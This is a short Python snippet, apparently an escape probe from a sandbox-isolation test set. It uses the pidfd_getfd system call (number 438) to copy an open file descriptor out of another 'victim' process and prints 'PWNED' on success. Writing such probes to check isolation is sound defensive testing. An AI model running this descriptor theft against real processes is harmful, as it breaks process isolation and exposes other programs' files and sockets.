# Takes a descriptor out of a process outside.
# control: escapes
import ctypes
import os

number = ctypes.CDLL(None).syscall(438, os.pidfd_open(int(victim)), 0, 0)
if number >= 0:
    print("PWNED descriptor", number)
